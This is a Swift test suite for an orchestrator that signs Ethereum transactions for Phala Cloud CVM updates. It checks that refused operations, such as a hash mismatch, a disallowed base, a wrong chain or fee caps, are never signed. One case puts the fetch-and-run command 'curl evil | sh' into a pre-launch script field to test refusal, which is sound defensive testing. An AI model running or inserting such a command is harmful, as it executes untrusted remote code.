// SPDX-License-Identifier: Apache-2.0

import EthTx
import PhalaCloud
import StrictJSON
import Testing

@testable import Orchestrator

@Suite("What is refused is never signed")
struct RefusalTests {
    struct Case: Sendable, CustomTestStringConvertible {
        let name: String
        let code: ErrorCode
        var policy = Policy()
        let change: @Sendable (inout World.State) -> Void
        var testDescription: String { name }
    }

    static let cases: [Case] = [
        Case(name: "another hash than recomputed", code: .hashMismatch) {
            $0.overrideHash = Bytes32.keccak256([9]).hex
        },
        Case(name: "a base object that is not the CVM's own", code: .baseNotAllowed) {
            $0.base["pre_launch_script"] = "curl evil | sh"
        },
        Case(name: "a base that the contract does not allow", code: .baseNotAllowed) { $0.allowed.removeAll() },
        Case(name: "a demand for another app's contract", code: .appMismatch) { $0.overrideApp = $0.owner },
        Case(name: "a signer that is not the owner", code: .ownerMismatch) { $0.owner = World.app },
        Case(name: "no code at the app's address", code: .noContract) { $0.hasCode = false },
        Case(name: "a call that would revert", code: .simulationReverted) {
            $0.simulationRevert = .error(message: "paused")
        },
        Case(name: "an endpoint of another chain", code: .wrongChain) {
            $0.chainFault = .wrongChain(expected: 31337, found: 1, endpoint: "https://rpc.example")
        },
        Case(name: "an endpoint that is none", code: .notAnRPCEndpoint) {
            $0.chainFault = .notAnEndpoint("https://kms.example")
        },
        Case(name: "a base fee above the cap", code: .feeCap, policy: Policy(maxFeePerGas: 1_000_000)) { _ in },
        Case(name: "a cost above the cap", code: .costCap, policy: Policy(maxCost: 1_000_000)) { _ in },
        Case(name: "too little balance", code: .insufficientFunds) { $0.balance = 1 },
    ]

    @Test(
        "with its own code, ending the operation before a nonce is used, whatever the kind of change",
        arguments: cases, Flow.registering)
    func refusal(_ refused: Case, _ flow: Flow) async throws {
        let bench = try TestBench()
        bench.world.change(refused.change)
        let stop = await #expect(throws: OperationStop.self) {
            _ = try await bench.update(bench.intent(flow, policy: refused.policy))
        }
        #expect(stop?.failure.code == refused.code)
        #expect(stop?.phase == .failed)
        #expect(bench.world.read { $0.sent.isEmpty && $0.applied.isEmpty })
        #expect(try await bench.store.openNonces().isEmpty)
        let operation = try #require(try await bench.store.operations(unfinishedOnly: false).first)
        #expect(operation.registration == nil)
        #expect(operation.phase == .failed)
    }

    @Test("unless the operator typed that very hash")
    func accepted() async throws {
        let bench = try TestBench()
        bench.world.change { $0.base["extra"] = "unknown to the hash of the CVM" }
        let failed = await #expect(throws: OperationStop.self) { _ = try await bench.update() }
        #expect(failed?.failure.code == .baseNotAllowed)
        let asked = try #require(bench.world.read { $0.pending })
        let operation = try await bench.update(bench.intent(acceptedHash: asked))
        #expect(operation.phase == .running)
        #expect(operation.verification == .accepted)
    }

    @Test("and the operator's word lifts a base that the contract does not allow")
    func acceptedBase() async throws {
        let bench = try TestBench()
        bench.world.change { $0.allowed.removeAll() }
        await #expect(throws: OperationStop.self) { _ = try await bench.update() }
        let asked = try #require(bench.world.read { $0.pending })
        let operation = try await bench.update(bench.intent(acceptedHash: asked))
        #expect(operation.phase == .running)
        #expect(operation.verification == .accepted)
    }

    @Test("also where the base loses its allowance between verifying and signing")
    func acceptedBaseLater() async throws {
        let rehearsal = try TestBench()
        _ = try await rehearsal.update()
        let asked = try #require(rehearsal.world.read { $0.applied.last })
        let sign = try #require(rehearsal.world.read { $0.log.firstIndex(of: "commit signed") })
        for accepted in [asked, nil] {
            let bench = try TestBench()
            let intent = bench.intent(acceptedHash: accepted)
            bench.world.change { $0.cut = World.PowerCut(call: sign, side: .before) }
            await #expect(throws: OperationStop.self) { _ = try await bench.update(intent) }
            bench.world.restart()
            let verified = try #require(try await bench.store.operations(unfinishedOnly: true).first)
            #expect(verified.phase == .verified && verified.verification == .recomputed)
            bench.world.change { $0.allowed.removeAll() }
            if accepted != nil {
                #expect(try await bench.engine().run(verified.id).phase == .running)
            } else {
                let stop = await #expect(throws: OperationStop.self) { _ = try await bench.engine().run(verified.id) }
                #expect(stop?.failure.code == .baseNotAllowed)
                #expect(bench.world.read { $0.sent.isEmpty })
            }
        }
    }

    @Test("with what was hashed, field by field, when the hash is another")
    func mismatchIsExplained() async throws {
        let bench = try TestBench()
        let asked = Bytes32.keccak256([9]).hex
        bench.world.change { $0.overrideHash = asked }
        let stop = await #expect(throws: OperationStop.self) { _ = try await bench.update() }
        let message = try #require(stop?.failure.message)
        #expect(message.contains(asked))
        #expect(message.contains("docker_compose_file"))
        #expect(message.contains("Nothing was signed"))
        #expect(message.contains("as previewed"))
    }

    @Test("and another key at resume is refused without ending the operation")
    func anotherKey() async throws {
        let bench = try TestBench()
        bench.world.change { $0.chainFault = .unavailable("down") }
        let stop = await #expect(throws: OperationStop.self) { _ = try await bench.update() }
        let id = try #require(stop?.operation)
        bench.world.change { $0.chainFault = nil }
        let other = LocalSigner(try SecretKey(bytes: [UInt8](repeating: 0x22, count: 32)))
        let refused = await #expect(throws: OperationStop.self) {
            _ = try await bench.engine(signer: other).run(id)
        }
        #expect(refused?.failure.code == .signerMismatch)
        #expect(bench.world.read { $0.sent.isEmpty })
    }
}
